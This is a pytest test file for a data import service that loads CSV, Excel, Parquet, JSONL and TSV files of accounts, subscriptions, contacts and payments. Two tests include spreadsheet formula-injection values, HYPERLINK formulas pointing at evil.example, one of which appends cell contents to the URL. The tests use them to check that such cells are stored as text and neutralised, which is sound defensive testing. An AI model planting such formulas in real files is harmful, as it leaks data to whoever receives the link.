"""``import_file`` on real files, on SQLite and PostgreSQL: formats, encodings, mappings, validation, idempotency."""

from __future__ import annotations

import csv
import datetime as dt
import json
import shutil
from pathlib import Path
from typing import Any

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from sqlalchemy import func, select
from sqlalchemy.orm import Session

from kizuna import models as m
from kizuna.errors import ImportRejected, InvalidInput
from kizuna.imports import service
from kizuna.imports.schemas import ImportSummary
from kizuna.imports.service import import_file
from kizuna.settings import Settings
from tests import factories

DATA = Path(__file__).parents[1] / "data" / "imports"


def run(session: Session, settings: Settings, entity: str, path: Path, **kw: Any) -> ImportSummary:
    return import_file(session, entity=entity, path=path, settings=settings, actor="test", **kw)


def rejects(summary: ImportSummary) -> list[dict[str, str]]:
    assert summary.rejects_path is not None
    raw = Path(summary.rejects_path).read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf"), "rejects are UTF-8 with a BOM so that Excel opens them"
    return list(csv.DictReader(raw.decode("utf-8-sig").splitlines()))


def snapshot(session: Session, model: type[m.Base]) -> list[tuple[Any, ...]]:
    columns = list(model.__table__.columns)  # type: ignore[attr-defined]
    return [tuple(r) for r in session.execute(select(*columns).order_by(columns[0]))]


def count(session: Session, model: type[m.Base]) -> int:
    return session.scalar(select(func.count()).select_from(model)) or 0


def test_accounts_are_upserted_and_a_second_import_changes_nothing(session: Session, settings: Settings) -> None:
    owner = factories.team_member(session, email="csm1@example.jp")
    first = run(session, settings, "accounts", DATA / "accounts_good.csv")
    assert (first.imported, first.updated, first.unchanged, first.rejected) == (3, 0, 0, 0)
    assert first.rejects_path is None and first.encoding == "utf-8"
    acc = session.scalars(select(m.Account).where(m.Account.external_id == "ACC-3")).one()
    assert acc.owner_id == owner.id and acc.lifecycle_stage == "expansion"
    assert acc.created_at == dt.datetime(2025, 5, 31, 15, 0, tzinfo=dt.UTC)  # 2025年6月1日 in Asia/Tokyo
    before = snapshot(session, m.Account)

    second = run(session, settings, "accounts", DATA / "accounts_good.csv")
    assert (second.imported, second.updated, second.unchanged, second.rejected) == (0, 0, 3, 0)
    assert snapshot(session, m.Account) == before
    runs = session.scalars(select(m.ImportRun).order_by(m.ImportRun.id)).all()
    assert [(r.imported, r.unchanged, r.status) for r in runs[-2:]] == [(3, 0, "done"), (0, 3, "done")]
    audit = session.scalars(select(m.AuditEntry).where(m.AuditEntry.action == "import")).all()
    assert len(audit) >= 2 and audit[-1].actor == "test"


def test_a_changed_row_is_updated_and_the_rest_left_alone(session: Session, settings: Settings, tmp_path: Path) -> None:
    factories.team_member(session, email="csm1@example.jp")
    run(session, settings, "accounts", DATA / "accounts_good.csv")
    edited = tmp_path / "accounts.csv"
    edited.write_text(
        (DATA / "accounts_good.csv").read_text(encoding="utf-8").replace("IT・通信", "情報通信"), encoding="utf-8"
    )
    summary = run(session, settings, "accounts", edited)
    assert (summary.imported, summary.updated, summary.unchanged) == (0, 1, 2)
    assert session.scalar(select(m.Account.industry).where(m.Account.external_id == "ACC-1")) == "情報通信"


def test_broken_accounts_rows_go_to_the_rejects_file_with_row_column_value_and_reason(
    session: Session, settings: Settings
) -> None:
    summary = run(session, settings, "accounts", DATA / "accounts_broken.csv")
    assert summary.imported == 2 and summary.rejected == 5
    by_row = {(int(r["row"]), r["column"]): r for r in rejects(summary)}
    assert all(r["file"] == "accounts_broken.csv" for r in by_row.values())
    assert "not a date" in by_row[(3, "created_at")]["reason"]
    assert by_row[(4, "employees")]["reason"] == "must not be negative"
    assert by_row[(4, "employees")]["value"] == "'-5"  # neutralised for Excel
    assert by_row[(5, "external_id")]["reason"] == "duplicate external_id ACC-10: already in row 2"
    assert "not one of" in by_row[(7, "lifecycle_stage")]["reason"]
    assert by_row[(8, "external_id")]["reason"] == "required"
    assert (count(session, m.Account), summary.rows_read) == (2, 7)


def test_formula_looking_cells_are_stored_as_text_never_evaluated(session: Session, settings: Settings) -> None:
    summary = run(session, settings, "accounts", DATA / "accounts_broken.csv")
    name = session.scalar(select(m.Account.name).where(m.Account.external_id == "ACC-13"))
    assert name == '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    row = next(r for r in rejects(summary) if r["row"] == "7" and r["column"] == "lifecycle_stage")
    assert row["value"] == "unknown_stage"
    # a formula-looking value that ends in the rejects file is prefixed with ' so Excel shows it as text
    text = Path(summary.rejects_path or "").read_text(encoding="utf-8-sig")
    assert "\n" + "=" not in text and ",=" not in text and ",@" not in text


def test_subscriptions_with_bad_dates_negative_seats_and_unknown_accounts(session: Session, settings: Settings) -> None:
    for ext in ("ACC-1", "ACC-2", "ACC-3"):
        factories.account(session, external_id=ext)
    factories.plan(session, external_id="PLAN-PRO")
    summary = run(session, settings, "subscriptions", DATA / "subscriptions_broken.csv")
    reasons = {(int(r["row"]), r["column"]): r["reason"] for r in rejects(summary)}
    assert reasons[(3, "quantity")] == "must not be negative"
    assert reasons[(4, "account_external_id")] == "unknown account: no accounts with external_id 'ACC-NOPE'"
    assert "not a date" in reasons[(5, "start_date")]
    assert reasons[(6, "end_date")] == "before start_date"
    assert "not one of" in reasons[(7, "status")]
    assert (summary.imported, summary.rejected) == (2, 5)
    sub7 = session.scalars(select(m.Subscription).where(m.Subscription.external_id == "SUB-7")).one()
    assert (sub7.quantity, sub7.mrr_minor, sub7.contract_id, sub7.start_date) == (
        7,
        35_000,
        "SUB-7",
        dt.date(2026, 1, 5),
    )
    sub1 = session.scalars(select(m.Subscription).where(m.Subscription.external_id == "SUB-1")).one()
    assert (sub1.mrr_minor, sub1.currency, sub1.status) == (50_000, "JPY", "active")


def test_a_number_in_a_csv_date_column_is_refused_never_read_as_an_excel_serial(
    session: Session, settings: Settings, tmp_path: Path
) -> None:
    # 2024 was once stored as 1905-07-16 (Excel's serial 2024); only a number cell of a workbook is a serial date
    factories.account(session, external_id="ACC-X")
    factories.plan(session, external_id="PLAN-X")
    path = tmp_path / "subs.csv"
    path.write_text(
        "external_id,account_id,plan_id,mrr_minor,start_date\nS-X,ACC-X,PLAN-X,1000,45658\nS-Y,ACC-X,PLAN-X,1000,2024\n",
        encoding="utf-8",
    )
    summary = run(session, settings, "subscriptions", path, currency="JPY")
    assert (summary.imported, summary.rejected) == (0, 2)
    assert [(r["row"], r["column"], r["value"]) for r in rejects(summary)] == [
        ("2", "start_date", "45658"),
        ("3", "start_date", "2024"),
    ]
    assert all("a number alone" in r["reason"] for r in rejects(summary))


def test_cp932_export_with_nec_extensions_is_detected(session: Session, settings: Settings) -> None:
    factories.team_member(session, name="山田 太郎")
    summary = run(session, settings, "accounts", DATA / "salesforce_accounts_ja.csv")
    assert summary.encoding == "cp932" and summary.imported == 2, summary
    names = set(session.scalars(select(m.Account.name).where(m.Account.external_id.like("0015g%"))))
    assert names == {"株式会社髙橋製作所", "㈱サンプル商事①"}


def test_shift_jis_named_encoding_is_read_as_cp932(session: Session, settings: Settings) -> None:
    factories.team_member(session, name="山田 太郎")
    summary = run(session, settings, "accounts", DATA / "salesforce_accounts_ja.csv", encoding="Shift_JIS")
    assert summary.encoding == "cp932" and summary.imported == 2


def test_a_file_that_is_not_decodable_is_refused_with_offset_and_row(session: Session, settings: Settings) -> None:
    with pytest.raises(ImportRejected) as info:
        run(session, settings, "accounts", DATA / "invalid_bytes.csv")
    message = str(info.value)
    assert "invalid_bytes.csv" in message and "UTF-8" in message and "CP932" in message
    assert "byte offset 26 (line 2, bytes e9 20 ff fe) is not valid utf-8" in message
    with pytest.raises(ImportRejected, match=r"cannot be read as utf-8: byte offset 26 \(line 2"):
        run(session, settings, "accounts", DATA / "invalid_bytes.csv", encoding="utf-8")
    assert count(session, m.Account) == 0 and count(session, m.ImportRun) == 0


def test_utf8_with_bom(session: Session, settings: Settings, tmp_path: Path) -> None:
    path = tmp_path / "bom.csv"
    path.write_bytes(b"\xef\xbb\xbf" + "external_id,name\nB-1,株式会社ボム\n".encode())
    summary = run(session, settings, "accounts", path)
    assert summary.encoding == "utf-8-sig" and summary.imported == 1
    assert summary.recognised_columns == {"external_id": "external_id", "name": "name"}


def test_missing_required_columns_refuse_the_file_naming_them(
    session: Session, settings: Settings, tmp_path: Path
) -> None:
    path = tmp_path / "subs.csv"
    path.write_text("external_id,quantity\nS-1,3\n", encoding="utf-8")
    with pytest.raises(ImportRejected) as info:
        run(session, settings, "subscriptions", path)
    message = str(info.value)
    for column in ("mrr_minor", "start_date", "account_external_id", "plan_external_id"):
        assert column in message
    assert info.value.context["columns"]
    assert count(session, m.Subscription) == 0 and count(session, m.ImportRun) == 0
    assert not list(settings.rejects_dir.glob("*.csv")) if settings.rejects_dir.exists() else True


def test_unknown_entity_is_invalid_input(session: Session, settings: Settings) -> None:
    with pytest.raises(InvalidInput, match="unknown entity"):
        run(session, settings, "customers", DATA / "accounts_good.csv")


def test_excel_workbook_with_dates_and_a_formula(session: Session, settings: Settings, tmp_path: Path) -> None:
    import openpyxl

    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.title = "顧客"
    sheet.append(["external_id", "name", "employees", "created_at"])
    sheet.append(["X-1", "株式会社エクセル", 42, dt.datetime(2025, 4, 1, 9, 0)])
    sheet.append(["X-2", '=HYPERLINK("http://evil.example","x")', 3, 45658])
    sheet.append([None, None, None, None])
    sheet.append(["X-3", "株式会社マイナス", -1, "2025/04/01"])
    sheet.append(["X-4", "株式会社数式", "=B2*2", "2025/04/01"])
    path = tmp_path / "accounts.xlsx"
    book.save(path)
    summary = run(session, settings, "accounts", path, sheet="顧客")
    assert (summary.format, summary.imported, summary.rejected) == ("xlsx", 2, 2)
    assert [r["row"] for r in rejects(summary)] == ["5", "6"]
    assert rejects(summary)[1]["value"] == "'=B2*2" and "formula" in rejects(summary)[1]["reason"]
    x1 = session.scalars(select(m.Account).where(m.Account.external_id == "X-1")).one()
    assert x1.employee_band == "11-50" and x1.created_at == dt.datetime(2025, 4, 1, 0, 0, tzinfo=dt.UTC)
    assert session.scalar(select(m.Account.name).where(m.Account.external_id == "X-2")).startswith("=HYPERLINK")
    with pytest.raises(ImportRejected, match="no sheet named"):
        run(session, settings, "accounts", path, sheet="Sheet9")


def test_parquet_jsonl_and_tsv(session: Session, settings: Settings, tmp_path: Path) -> None:
    factories.account(session, external_id="P-ACC")
    pq.write_table(
        pa.table(
            {
                "external_id": ["T-1", "T-2"],
                "account_external_id": ["P-ACC", "P-ACC"],
                "subject": ["ログインできない", "請求書"],
                "priority": ["high", "normal"],
                "opened_at": [dt.datetime(2026, 1, 5, 1, tzinfo=dt.UTC)] * 2,
                "csat": [5, 9],
            }
        ),
        tmp_path / "tickets.parquet",
    )
    parquet = run(session, settings, "tickets", tmp_path / "tickets.parquet")
    assert (parquet.imported, parquet.rejected) == (1, 1)
    assert rejects(parquet)[0]["reason"] == "must be at most 5"

    lines = [
        {
            "external_id": "N-1",
            "account_id": "P-ACC",
            "kind": "nps",
            "score": 9,
            "responded_at": "2026-01-05T10:00:00+09:00",
            "comment": "とても良い",
        },
        {"external_id": "N-2", "account_id": "P-ACC", "kind": "csat", "score": 7, "responded_at": "2026-01-06"},
    ]
    (tmp_path / "nps.jsonl").write_text(
        "\n".join(json.dumps(x, ensure_ascii=False) for x in lines) + "\n", encoding="utf-8"
    )
    jsonl = run(session, settings, "survey_responses", tmp_path / "nps.jsonl")
    assert (jsonl.imported, jsonl.rejected) == (1, 1)
    assert rejects(jsonl)[0] == {
        "file": "nps.jsonl",
        "row": "2",
        "column": "score",
        "value": "7",
        "reason": "csat scores run 1..5",
    }

    (tmp_path / "voc.tsv").write_text(
        "external_id\taccount_external_id\tchannel\ttext\trecorded_at\n"
        "V-1\tP-ACC\tcall_center\t使い方が分からない、サポートが足りない\t2026/01/05 10:00\n",
        encoding="utf-8",
    )
    tsv = run(session, settings, "voc_entries", tmp_path / "voc.tsv")
    assert (tsv.format, tsv.imported) == ("tsv", 1)
    voc = session.scalars(select(m.VocEntry).where(m.VocEntry.external_id == "V-1")).one()
    assert voc.recorded_at == dt.datetime(2026, 1, 5, 1, 0, tzinfo=dt.UTC) and voc.language == "ja"


def test_salesforce_japanese_exports(session: Session, settings: Settings) -> None:
    yamada = factories.team_member(session, name="山田 太郎")
    run(session, settings, "accounts", DATA / "salesforce_accounts_ja.csv")
    acc = session.scalars(select(m.Account).where(m.Account.external_id == "0015g00000AbCdE")).one()
    assert (acc.industry, acc.employee_band, acc.region, acc.owner_id) == ("製造", "51-200", "東京都", yamada.id)

    # a single-currency org exports no currency column: the import says it (--currency JPY)
    summary = run(session, settings, "opportunities", DATA / "salesforce_opportunities_ja.csv", currency="JPY")
    assert summary.recognised_columns["フェーズ"] == "stage" and summary.recognised_columns["金額"] == "amount"
    assert (summary.imported, summary.rejected) == (3, 1)
    assert "unknown account" in rejects(summary)[0]["reason"]
    opps = {o.external_id: o for o in session.scalars(select(m.Opportunity))}
    won = opps["0065g00000X1"]
    assert (won.stage, won.kind, won.amount_minor, won.close_date, won.owner_id) == (
        "won",
        "new",
        1_200_000,
        dt.date(2025, 6, 30),
        yamada.id,
    )
    assert (opps["0065g00000X2"].stage, opps["0065g00000X2"].kind, opps["0065g00000X2"].amount_minor) == (
        "open",
        "upsell",
        300_000,
    )
    assert (opps["0065g00000X4"].stage, opps["0065g00000X4"].amount_minor) == ("lost", 80_000)


def test_hubspot_english_exports(session: Session, settings: Settings) -> None:
    companies = run(session, settings, "accounts", DATA / "hubspot_companies_en.csv")
    assert companies.imported == 2 and companies.ignored_columns == ["Lifecycle Stage"]
    acme = session.scalars(select(m.Account).where(m.Account.external_id == "9001")).one()
    assert (acme.name, acme.employee_band, acme.region) == ("Acme Japan K.K.", "201-500", "Tokyo")
    assert acme.created_at == dt.datetime(2025, 3, 1, 1, 0, tzinfo=dt.UTC)

    contacts = run(session, settings, "contacts", DATA / "hubspot_contacts_en.csv")
    assert (contacts.imported, contacts.rejected) == (2, 1)
    hanako = session.scalars(select(m.Contact).where(m.Contact.external_id == "502")).one()
    assert hanako.name == "Suzuki Hanako" and hanako.account_id == acme.id  # the first of "9001;9002"


def test_yaml_mapping_with_value_maps_date_formats_and_defaults(session: Session, settings: Settings) -> None:
    factories.team_member(session, email="csm1@example.jp")
    summary = run(
        session, settings, "accounts", DATA / "custom_accounts.csv", mapping=DATA / "custom_accounts.mapping.yaml"
    )
    assert (summary.imported, summary.rejected) == (2, 1)
    assert rejects(summary)[0]["column"] == "lifecycle_stage"
    k1 = session.scalars(select(m.Account).where(m.Account.external_id == "K-001")).one()
    assert (k1.lifecycle_stage, k1.region, k1.created_at.date()) == ("adoption", "未設定", dt.date(2025, 3, 31))


def test_a_mapping_to_an_unknown_column_is_refused(session: Session, settings: Settings, tmp_path: Path) -> None:
    bad = tmp_path / "bad.yaml"
    bad.write_text("columns:\n  顧客コード: customer_code\n", encoding="utf-8")
    with pytest.raises(ImportRejected, match="customer_code"):
        run(session, settings, "accounts", DATA / "custom_accounts.csv", mapping=bad)


def test_contacts_sharing_an_email_at_one_account_are_refused(
    session: Session, settings: Settings, tmp_path: Path
) -> None:
    factories.account(session, external_id="E-ACC")
    path = tmp_path / "contacts.csv"
    path.write_text(
        "external_id,account_external_id,name,email,is_champion\n"
        "C-1,E-ACC,佐藤 一郎,sato@example.jp,はい\nC-2,E-ACC,佐藤 二郎,sato@example.jp,いいえ\n",
        encoding="utf-8",
    )
    summary = run(session, settings, "contacts", path)
    assert (summary.imported, summary.rejected) == (1, 1)
    assert rejects(summary)[0]["reason"] == "same account_id + email as row 2"
    assert session.scalar(select(m.Contact.is_champion).where(m.Contact.external_id == "C-1")) is True


def test_payments_take_their_account_from_the_invoice(session: Session, settings: Settings, tmp_path: Path) -> None:
    acc = factories.account(session, external_id="PAY-ACC")
    (tmp_path / "inv.csv").write_text(
        'external_id,account_external_id,issued_on,amount_minor,status\nINV-1,PAY-ACC,2026-01-01,"¥55,000",failed\n',
        encoding="utf-8",
    )
    (tmp_path / "pay.csv").write_text(
        "external_id,invoice_external_id,attempted_at,amount_minor,status,attempt\n"
        "PAY-1,INV-1,2026-01-01 10:00,55000,failed,1\nPAY-2,INV-1,2026-01-04 10:00,55000,succeeded,0\n",
        encoding="utf-8",
    )
    assert run(session, settings, "invoices", tmp_path / "inv.csv", currency="JPY").imported == 1
    summary = run(session, settings, "payments", tmp_path / "pay.csv", currency="JPY")
    assert (summary.imported, summary.rejected) == (1, 1)
    assert rejects(summary)[0]["reason"] == "must be at least 1"
    assert session.scalar(select(m.Payment.account_id).where(m.Payment.external_id == "PAY-1")) == acc.id


def test_marketing_spend_is_keyed_by_month_and_channel(session: Session, settings: Settings, tmp_path: Path) -> None:
    path = tmp_path / "spend.csv"
    path.write_text(
        'month,channel,amount_minor\n2026年1月,seminar,"1,000,000円"\n2026-01-15,ads,500000\n2026/01,seminar,10\n',
        encoding="utf-8",
    )
    summary = run(session, settings, "marketing_spend", path, currency="JPY")
    assert (summary.imported, summary.rejected) == (2, 1)
    assert "already in row 2" in rejects(summary)[0]["reason"]
    assert set(session.execute(select(m.MarketingSpend.month, m.MarketingSpend.amount_minor))) == {
        (dt.date(2026, 1, 1), 1_000_000),
        (dt.date(2026, 1, 1), 500_000),
    }
    again = run(session, settings, "marketing_spend", path, currency="JPY")
    assert (again.imported, again.unchanged) == (0, 2)


def test_dry_run_validates_and_writes_nothing(session: Session, settings: Settings) -> None:
    summary = run(session, settings, "accounts", DATA / "accounts_broken.csv", dry_run=True)
    assert summary.dry_run and summary.imported == 2 and summary.rejected == 5
    assert count(session, m.Account) == 0 and count(session, m.ImportRun) == 0
    assert summary.rejects_path is not None


def test_an_interrupted_import_leaves_the_database_as_it_was(
    session: Session, settings: Settings, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    factories.team_member(session, email="csm1@example.jp")
    run(session, settings, "accounts", DATA / "accounts_good.csv")
    before = snapshot(session, m.Account)
    runs_before = count(session, m.ImportRun)
    big = tmp_path / "accounts.csv"
    with big.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["external_id", "name", "industry"])
        writer.writerow(["ACC-1", "株式会社さくらテック 改", "IT"])  # an update the interruption must undo
        for i in range(2500):
            writer.writerow([f"NEW-{i}", f"株式会社{i}", "IT"])

    def interrupt(row: int) -> None:
        if row > 2000:
            raise KeyboardInterrupt

    monkeypatch.setattr(service, "_before_row", interrupt)
    with pytest.raises(KeyboardInterrupt):
        run(session, settings, "accounts", big)
    assert snapshot(session, m.Account) == before
    assert count(session, m.ImportRun) == runs_before
    assert not list(settings.rejects_dir.glob("*")) if settings.rejects_dir.exists() else True


def test_the_display_name_names_the_file_in_rejects(session: Session, settings: Settings, tmp_path: Path) -> None:
    upload = tmp_path / "upload-3f2a.csv"
    shutil.copy(DATA / "accounts_broken.csv", upload)
    summary = run(session, settings, "accounts", upload, display_name="顧客一覧.csv")
    assert {r["file"] for r in rejects(summary)} == {"顧客一覧.csv"}


def test_an_upload_under_a_temporary_name_takes_its_format_from_the_original_name(
    session: Session, settings: Settings, tmp_path: Path
) -> None:
    upload = tmp_path / "upload-7c1e"
    upload.write_text("external_id\tname\nU-1\t株式会社アップロード\n", encoding="utf-8")
    seen: list[tuple[int, int]] = []
    summary = run(
        session,
        settings,
        "accounts",
        upload,
        display_name="取引先.tsv",
        progress=lambda done, total: seen.append((done, total)),
    )
    assert (summary.format, summary.file, summary.imported) == ("tsv", "取引先.tsv", 1)


def test_progress_is_reported_while_rows_are_read(session: Session, settings: Settings, tmp_path: Path) -> None:
    path = tmp_path / "accounts.csv"
    path.write_text("external_id,name\n" + "".join(f"P-{i},株式会社{i}\n" for i in range(3500)), encoding="utf-8")
    seen: list[tuple[int, int]] = []
    run(session, settings, "accounts", path, progress=lambda done, total: seen.append((done, total)))
    size = path.stat().st_size
    assert len(seen) == 3 and all(total == size for _, total in seen)
    assert [d for d, _ in seen] == sorted(d for d, _ in seen) and 0 < seen[0][0] < seen[-1][0] < size


def test_amounts_without_a_currency_column_are_read_in_the_row_s_currency_and_a_new_row_needs_one(
    session: Session, settings: Settings, tmp_path: Path
) -> None:
    factories.plan(session, external_id="PLAN-BASE")
    product = session.scalar(select(m.Product.external_id).join(m.Plan).where(m.Plan.external_id == "PLAN-BASE"))
    first = tmp_path / "plans.csv"
    first.write_text(
        f"external_id,product_external_id,name,list_price,currency\nP-USD,{product},Pro US,$12.50,USD\n",
        encoding="utf-8",
    )
    assert run(session, settings, "plans", first).imported == 1
    second = tmp_path / "plans2.csv"
    second.write_text(
        f"external_id,product_external_id,name,list_price\nP-USD,{product},Pro US,15.00\n"
        f'P-JPY,{product},Pro JP,"1,500円"\n',
        encoding="utf-8",
    )
    summary = run(session, settings, "plans", second)
    assert (summary.imported, summary.updated, summary.rejected) == (0, 1, 1)  # the new row says no currency
    assert [(r.row, r.column) for r in summary.sample_rejections] == [(3, "list_price")]
    prices = dict(session.execute(select(m.Plan.external_id, m.Plan.list_price_minor)).all())
    currencies = dict(session.execute(select(m.Plan.external_id, m.Plan.currency)).all())
    assert (prices["P-USD"], currencies["P-USD"]) == (1500, "USD")
    assert "P-JPY" not in prices
